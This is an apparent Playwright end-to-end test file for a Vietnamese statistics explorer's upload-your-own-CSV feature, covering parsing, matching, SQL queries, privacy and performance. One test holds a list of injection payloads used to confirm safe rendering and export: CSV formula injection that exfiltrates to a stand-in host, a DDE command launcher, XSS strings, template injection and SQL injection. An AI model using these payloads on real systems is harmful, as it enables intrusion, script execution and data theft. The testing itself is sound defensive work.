import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page, Request } from 'playwright-core';
import { afterAll, describe, expect, it } from 'vitest';
import { exploreLive } from '../../src/i18n/vi/exploreLive.ts';
import { sites } from '../sites.ts';
import { answered, asked, explorerOf, hacked, patience, runSql, shown, slow } from './explorer.ts';
import { csvOf, save, xlsxOf } from './savedFiles.ts';
import { withoutBrowser } from './visit.ts';

const words = exploreLive.mine;
const small = 'Tỉnh,Năm,Điểm thử\nHà Nội,2023,"1.234,5"\nĐà Nẵng,2023,"2,25"\nTP HCM,2023,7\nHà Nộii,2023,8\nHà Giang,2023,"−3,5"\n';

const readPasted = async (page: Page, text: string): Promise<void> => {
  await page.locator('#dan-bang').fill(text);
  await page.locator('[data-do="read"]').click();
};
/** Waits until a table has been read; gives what is said of its rows. */
async function read(page: Page): Promise<string> {
  await page.locator('.mine .main-button, .mine [data-problem]').waitFor();
  expect(await page.locator('.mine [data-problem]').allInnerTexts()).toEqual([]);
  return page.locator('.mine .result-said').first().innerText();
}
/** Uses the table that was read and waits until views and SQL have it. */
async function use(page: Page): Promise<void> {
  await page.locator('.mine .main-button').click();
  await expect.poll(() => page.locator('.mine .result-said').last().innerText(), { timeout: 2 * patience }).toBe(words.used);
  await answered(page);
}
const choose = (page: Page, name: string, content: string | Buffer): Promise<void> =>
  page.locator('.mine input[type="file"]').setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(content) });

/** Drops a file as a mouse does. */
async function drop(page: Page, name: string, content: string): Promise<void> {
  const transfer = await page.evaluateHandle(([n, c]) => {
    const made = new DataTransfer();
    made.items.add(new File([c!], n!, { type: 'text/csv' }));
    return made;
  }, [name, content]);
  await page.locator('[data-drop]').dispatchEvent('dragover', { dataTransfer: transfer });
  expect(await page.locator('[data-drop]').getAttribute('class')).toContain('over');
  await page.locator('[data-drop]').dispatchEvent('drop', { dataTransfer: transfer });
}

/** Milliseconds of the longest task of the page's thread since the last look. */
async function watchTasks(page: Page): Promise<void> {
  await page.addInitScript(() => {
    const seen = { longest: 0 };
    Object.assign(globalThis, { seen });
    new PerformanceObserver((list) => void (seen.longest = Math.max(seen.longest, ...list.getEntries().map((e) => e.duration)))).observe({ type: 'longtask' });
  });
}
const longest = (page: Page): Promise<number> =>
  page.evaluate(() => {
    const { seen } = globalThis as unknown as { seen: { longest: number } };
    const found = seen.longest;
    seen.longest = 0;
    return found;
  });
/** A task of 120 ms, to see that the watch sees it. */
async function busy(page: Page): Promise<number> {
  await page.evaluate(() => new Promise<void>((done) => setTimeout(() => {
    const since = performance.now();
    while (performance.now() - since < 120);
    setTimeout(done, 50);
  })));
  return longest(page);
}
/** Longest task allowed, in milliseconds, in the best of three attempts: far below the seconds that reading takes. */
const fluent = 300;

describe.skipIf(withoutBrowser).each(sites.slice(0, 1))('a table of one\'s own', slow, (site) => {
  const { open, url } = explorerOf(site);
  const folder = mkdtempSync(join(tmpdir(), 'dung-hen-mine-'));
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  it.each([
    ['chosen', (page: Page) => choose(page, 'diem.csv', small)],
    ['pasted', (page: Page) => readPasted(page, small)],
    ['pasted from a spreadsheet', (page: Page) => readPasted(page, small.split('\n').map((l) => l.replace(',', '\t').replace(',', '\t').replaceAll('"', '')).join('\n'))],
    ['dropped', (page: Page) => drop(page, 'diem.csv', small)],
  ] as const)('%s is read, corrected, shown and queried', async (_, give) => {
    await open('', async ({ page, complaints }) => {
      await give(page);
      expect(await read(page)).toBe(words.rows('5', '4'));
      const unmatched = page.locator('.mine-names li');
      expect(await unmatched.count()).toBe(1);
      expect(await unmatched.locator('label > span').innerText()).toContain('Hà Nộii');
      const nearest = await unmatched.locator('option').nth(1).innerText();
      expect(nearest).toBe('Hà Nội');
      await unmatched.locator('select').selectOption({ label: 'Hải Phòng' });
      await page.locator('.mine-names button').click();
      await expect.poll(() => read(page), { timeout: patience }).toBe(words.rows('5', '5'));
      await use(page);
      expect(asked(page)).toMatch(/i=mine\.\w+/);
      const { table, title } = await shown(page);
      expect(title).toContain(exploreLive.mine.own);
      expect(table.slice(1).map((r) => r.slice(0, 3))).toEqual([['Đà Nẵng', '2023', '2,25'], ['Hà Giang', '2023', '−3,5'], ['Hà Nội', '2023', '1.234,5'], ['Hải Phòng', '2023', '8'], ['TP.HCM', '2023', '7']].map(([a, b, c]) => [a, b, c]).sort((a, b) => a[0]!.localeCompare(b[0]!, 'vi')).map((r) => [r[0], r[1], expect.stringContaining(r[2]!)]));
      const joined = await runSql(page, "SELECT u.short_vi AS province, m.value AS mine, o.value AS published FROM mine m JOIN units u ON u.id = m.unit JOIN observations o ON o.unit = m.unit AND o.period = m.period AND o.indicator = 'papi.d5' ORDER BY m.value");
      expect(joined.error).toBeNull();
      expect(joined.rows.slice(1).map((r) => r.slice(0, 2))).toEqual([['Hà Giang', '-3,5'], ['Đà Nẵng', '2,25'], ['TP.HCM', '7'], ['Hải Phòng', '8'], ['Hà Nội', '1.234,5']].map(([a, b]) => [a, expect.stringMatching(new RegExp(`^[-−]?${b!.replace('-', '')}$`))]));
      for (const row of joined.rows.slice(1)) expect(row[2]).toMatch(/^\d/);
      expect(complaints).toEqual([]);
    });
  });

  it('stands beside a published indicator in a view, and the columns guessed can be corrected', async () => {
    await open('', async ({ page }) => {
      await choose(page, 'diem.csv', 'STT;Năm;Tên;A;B\n1;2023;Hà Nội;1;10\n2;2023;Đà Nẵng;2;20\n3;2023;Huế;3;30\n');
      await read(page);
      const choices = page.locator('.mine-choices label');
      await choices.filter({ hasText: new RegExp(`^${words.value}`) }).locator('select').selectOption({ label: 'B' });
      await page.locator('.mine-choices button').click();
      await read(page);
      await use(page);
      await page.locator('[data-pick="indicators"] input').click();
      await page.locator('[data-pick="indicators"] [role="option"]').first().waitFor();
      await page.keyboard.type('papi.d5');
      const option = page.locator('[data-pick="indicators"] [role="option"]').filter({ hasText: 'Thủ tục hành chính công' }).first();
      await option.click();
      await answered(page);
      await page.locator('select[name="periodSet"]').selectOption('periods');
      await answered(page);
      for (const box of await page.locator('input[name="period"]').all()) await box.setChecked((await box.getAttribute('value')) === '2023');
      await answered(page);
      await page.locator('input[name="view"][value="scatter"]').check();
      await answered(page);
      const answer = await shown(page);
      expect(answer.figures).toHaveLength(1);
      expect(answer.table.find((r) => r[0] === 'Đà Nẵng')![2]).toMatch(/^7,\d+/);
      await page.locator('input[name="view"][value="table"]').check();
      await answered(page);
      const sources = await page.locator('.answer .source-line').first().innerText();
      expect(sources).toContain('diem.csv');
    });
  });

  it.each([
    ['nothing', '', 'empty'],
    ['a workbook', Buffer.from([0x50, 0x4b, 3, 4, ...Array.from({ length: 200 }, (_, n) => n)]), 'not-csv'],
    ['bytes that are no text', 'Tỉnh,Điểm\nHà Nội\0\0,1\n', 'not-csv'],
    ['words without a number', 'Tỉnh,Ghi chú\nHà Nội,tốt\nĐà Nẵng,khá\n', 'no-value-column'],
    ['no unit', 'Tên,Điểm\nTáo,1\nCam,2\n', 'no-unit-column'],
    ['an open quote', 'Tỉnh,Điểm\n"Hà Nội,1\nĐà Nẵng,2\n', 'open-quote'],
    ['a header alone', 'Tỉnh,Năm,Điểm\n', 'no-rows'],
  ] as const)('%s is refused in plain words', async (_, content, kind) => {
    await open('', async ({ page, complaints }) => {
      await choose(page, 'x.csv', Buffer.from(content as string));
      const problem = page.locator(`[data-problem="${kind}"]`);
      await problem.waitFor();
      expect((await problem.innerText()).length).toBeGreaterThan(5);
      expect(await problem.getAttribute('role')).toBe('alert');
      await choose(page, 'y.csv', small);
      expect(await read(page)).toContain('5');
      expect(complaints).toEqual([]);
    });
  });

  it('of hostile cells is shown as text, and is harmless in every file', async () => {
    const cells = ['=HYPERLINK("http://off-origin.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1)', '\t=1', '\uff1d1+1', '<img src=x onerror="hacked=1">', '<script>hacked=1</script>', '"><svg onload=hacked=1>', 'javascript:hacked=1', '${hacked=1}', 'a\u0001b\u0007c\u202edoc', 'Robert\'); DROP TABLE units;--', '{{constructor.constructor("hacked=1")()}}'];
    const quoted = (text: string): string => `"${text.replaceAll('"', '""')}"`;
    const csv = [['Tỉnh', 'Năm', 'Điểm', '<b>=Ghi chú</b>'], ...cells.map((c, n) => [n === 0 ? 'Hà Nội' : quoted(c), '2023', String(n), quoted(c)])].map((r) => r.join(',')).join('\n');
    await open('', async ({ page, offOrigin, complaints }) => {
      await choose(page, '"><img src=x onerror=hacked=1>.csv', csv);
      await read(page);
      expect(await page.locator('.mine img, .mine script, .mine svg, .mine b').count()).toBe(0);
      expect(await page.locator('.mine tbody').innerText()).toContain('=HYPERLINK');
      expect(await page.locator('.mine-names').innerText()).toContain('<script>');
      await use(page);
      const found = await runSql(page, 'SELECT * FROM mine ORDER BY value');
      expect(found.rows).toHaveLength(cells.length + 1);
      expect(found.rows.flat().join(' ')).toContain('<img src=x onerror="hacked=1">');
      expect(await page.locator('[data-result] img, [data-result] script, [data-answer] img').count()).toBe(0);
      expect(await hacked(page)).toBeUndefined();

      const dangerous = /^\s*[=+\-@\t\r\uff0b\uff0d\uff1d\uff20]/;
      const number = /^-?\d+([.,]\d+)?$/;
      for (const [kind, delimiter] of [['csv', ','], ['csv-excel', ';']] as const) {
        const { rows } = csvOf(await save(page, page.locator(`[data-result] [data-download="${kind}"]`)), delimiter);
        expect(rows).toHaveLength(cells.length + 1);
        for (const cell of rows.flat()) expect(dangerous.test(cell) && !number.test(cell), cell).toBe(false);
        expect(rows.flat().some((c) => c.startsWith("'=HYPERLINK"))).toBe(true);
        expect(rows.flat().join('')).not.toMatch(/[\0-\x08\u202e]/);
      }
      const { sheets, formulas } = xlsxOf(await save(page, page.locator('[data-result] [data-download="xlsx"]')));
      expect(formulas).toBe(0);
      expect(sheets[0]!.flat()).toContain('=HYPERLINK("http://off-origin.example/?"&A1)');
      await page.locator('[data-result] [aria-pressed="false"]').first().click();
      const svg = (await save(page, page.locator('[data-result] [data-download="svg"]'))).content.toString('utf8');
      expect(svg).not.toMatch(/<script|<img|<svg onload|onerror=[^&]*"/);
      expect(await hacked(page)).toBeUndefined();
      expect([offOrigin, complaints]).toEqual([[], []]);
    });
  });

  it('never leaves the device: nothing of it is in any request, and no request sends anything', async () => {
    const secret = 'bí mật 8472 Zanzibar';
    await open('', async ({ page, offOrigin }) => {
      const sent: Request[] = [];
      page.on('request', (r) => sent.push(r));
      const sockets: string[] = [];
      page.on('websocket', (s) => sockets.push(s.url()));
      await choose(page, `${secret}.csv`, `Tỉnh,Năm,Điểm,Ghi chú ${secret}\nHà Nội,2023,847291,${secret}\nĐà Nẵng,2023,847292,x\nZanzibar,2023,847293,x\n`);
      await read(page);
      await page.locator('.mine-names select').selectOption({ index: 1 });
      await page.locator('.mine-names button').click();
      await read(page);
      await use(page);
      await runSql(page, "SELECT m.*, o.value FROM mine m LEFT JOIN observations o ON o.unit = m.unit AND o.period = m.period WHERE m.value > 847000");
      await save(page, page.locator('[data-result] [data-download="csv"]'));
      await save(page, page.locator('[data-result] [data-download="xlsx"]'));
      await page.locator('input[name="view"][value="ranking"]').check();
      await answered(page);
      await page.goto('about:blank');
      expect(sent.filter((r) => r.method() !== 'GET' || r.postData() !== null).map((r) => r.url())).toEqual([]);
      expect(sockets).toEqual([]);
      expect(offOrigin).toEqual([]);
      const traces = [/8472/, /zanzibar/i, /mật|m%E1%BA%ADt/i, /mine/];
      const urls = sent.map((r) => decodeURIComponent(r.url().replace(/#.*/, '')));
      for (const trace of traces) expect(urls.filter((u) => trace.test(u))).toEqual([]);
      for (const headers of await Promise.all(sent.map((r) => r.allHeaders().catch(() => ({}))))) expect(JSON.stringify(headers)).not.toMatch(/8472|zanzibar/i);
      const plain = sent.map((r) => new URL(r.url()).pathname.replace(/[.-][\w-]{8}\.(js|css|wasm\.gz|woff2)$/, '.$1'));
      const allowed = /^\/(assets|engine|fonts|tim)\/|^\/data\/(units|schema|manifest)\.json$|^\/data\/dung-hen\.duckdb\.gz$|^\/favicon\.svg$|^blank$/;
      expect(plain.filter((p) => !allowed.test(p.replace(site.base, '/')))).toEqual([]);
    });
  });

  it('is forgotten with the page; an address that names it says so and answers something else', async () => {
    await open('', async ({ page }) => {
      await readPasted(page, small);
      await read(page);
      await use(page);
      const address = page.url();
      await page.goto(url('kham-pha/') + new URL(address).search);
      await answered(page);
      expect(await page.locator('.answer .dropped').innerText()).toContain('i=mine.');
      expect(await page.evaluate(() => [Object.keys(localStorage), Object.keys(sessionStorage)])).toEqual([[], []]);
      expect((await runSql(page, 'SELECT * FROM mine')).error).toMatch(/mine/);
    });
  });

  const provinces = ['Hà Nội', 'Đà Nẵng', 'Cần Thơ', 'An Giang', 'Bắc Ninh', 'Cà Mau', 'Đồng Nai', 'Lào Cai', 'Nghệ An', 'Sơn La'];
  const manyRows = (rows: number, width = 0): string => {
    const lines = ['Tỉnh,Năm,Tháng thứ,Điểm,Ghi chú'];
    for (let n = 0; n < rows; n += 1) lines.push(`${provinces[n % 10]},${2011 + (Math.floor(n / 10) % 14)},${n},${(n % 997) / 10},${'x'.repeat(width)}`);
    return `${lines.join('\n')}\n`;
  };

  it('of 200,000 rows works, and the page answers meanwhile', async () => {
    const path = join(folder, 'many.csv');
    writeFileSync(path, manyRows(200_000));
    await open('', async ({ page }) => {
      expect(await busy(page)).toBeGreaterThan(100);
      let best = Infinity;
      for (let attempt = 0; attempt < 3 && best >= fluent; attempt += 1) {
        await longest(page);
        await page.locator('.mine input[type="file"]').setInputFiles(path);
        expect(await read(page)).toBe(words.rows('200.000', '200.000'));
        await use(page);
        best = Math.min(best, await longest(page));
        await page.evaluate(() => document.querySelector('[data-mine-result]')!.replaceChildren());
      }
      console.log(`200,000 rows: longest task of the page ${best.toFixed(0)} ms`);
      expect(best).toBeLessThan(fluent);
      expect((await runSql(page, 'SELECT count(*) AS n, round(sum(value), 1) AS s, count(DISTINCT unit) AS u FROM mine')).rows[1]).toEqual(['200.000', expect.any(String), '10']);
    }, {}, watchTasks);
  });

  it('of thousands of cells of their own goes into views, and the page answers meanwhile', async () => {
    await open('', async ({ page }) => {
      const names = await page.evaluate(async (file) => ((await (await fetch(file)).json()) as { units: { kind: string; vintage: string; name: { vi: string } }[] }).units.filter((u) => u.kind === 'province' && u.vintage === 'vn63').map((u) => u.name.vi), url('data/units.json'));
      const months = Array.from({ length: 168 }, (_, n) => `${(n % 12) + 1}/${2011 + Math.floor(n / 12)}`);
      const csv = ['Tỉnh,Kỳ,Điểm', ...names.flatMap((name) => months.map((month, n) => `${name},${month},${n}`))].join('\n');
      let best = Infinity;
      for (let attempt = 0; attempt < 3 && best >= fluent; attempt += 1) {
        await longest(page);
        await choose(page, 'months.csv', csv);
        expect(await read(page)).toBe(words.rows('10.584', '10.584'));
        await use(page);
        best = Math.min(best, await longest(page));
        await page.evaluate(() => document.querySelector('[data-mine-result]')!.replaceChildren());
      }
      console.log(`10,584 cells: longest task of the page ${best.toFixed(0)} ms`);
      expect(await page.locator('.answer .row-count').innerText()).toContain('10.584');
      expect(best).toBeLessThan(fluent);
      await longest(page);
      await page.locator('input[name="view"][value="pivot"]').check();
      await answered(page);
      console.log(`a pivot of them: ${(await longest(page)).toFixed(0)} ms`);
      expect((await shown(page)).table[0]).toHaveLength(169);
    }, {}, watchTasks);
  });

  it('of nearly 50 MB works, and the page answers meanwhile; one over it is refused', async () => {
    const path = join(folder, 'large.csv');
    const text = manyRows(150_000, 310);
    writeFileSync(path, text.slice(0, text.lastIndexOf('\n', 49 * 1024 * 1024) + 1));
    const over = join(folder, 'over.csv');
    writeFileSync(over, Buffer.alloc(51 * 1024 * 1024, 'Hà Nội,2024,1\n'));
    await open('', async ({ page }) => {
      expect(await busy(page)).toBeGreaterThan(100);
      let best = Infinity;
      for (let attempt = 0; attempt < 3 && best >= fluent; attempt += 1) {
        await longest(page);
        await page.locator('.mine input[type="file"]').setInputFiles(path);
        const said = await read(page);
        expect(Number(said.split(' ')[0]!.replace('.', ''))).toBeGreaterThan(130_000);
        await use(page);
        best = Math.min(best, await longest(page));
        await page.evaluate(() => document.querySelector('[data-mine-result]')!.replaceChildren());
      }
      console.log(`49 MB: longest task of the page ${best.toFixed(0)} ms`);
      expect(best).toBeLessThan(fluent);
      expect((await runSql(page, 'SELECT count(*) > 130000 AS many FROM mine')).rows[1]).toEqual(['true']);
      await page.locator('.mine input[type="file"]').setInputFiles(over);
      await page.locator('[data-problem="too-large"]').waitFor();
      expect(await page.locator('[data-problem="too-large"]').innerText()).toMatch(/51,0 MB.*50,0 MB/);
    }, {}, watchTasks);
  });

  it('of more than 200,000 rows is refused with the number of its rows, and reading can be called off', async () => {
    const path = join(folder, 'more.csv');
    writeFileSync(path, manyRows(230_000));
    await open('', async ({ page }) => {
      await page.locator('.mine input[type="file"]').setInputFiles(path);
      await page.locator('[data-problem="too-many-rows"]').waitFor();
      expect(await page.locator('[data-problem="too-many-rows"]').innerText()).toMatch(/230\.00[01].*200\.000/);
      await page.route(/csvWorker/, async (route) => {
        await new Promise((later) => setTimeout(later, 1500));
        await route.fallback();
      });
      await page.locator('.mine input[type="file"]').setInputFiles(path);
      await page.locator('[data-mine-result] button').click();
      await page.locator('[data-problem="cancelled"]').waitFor();
    });
  });
});
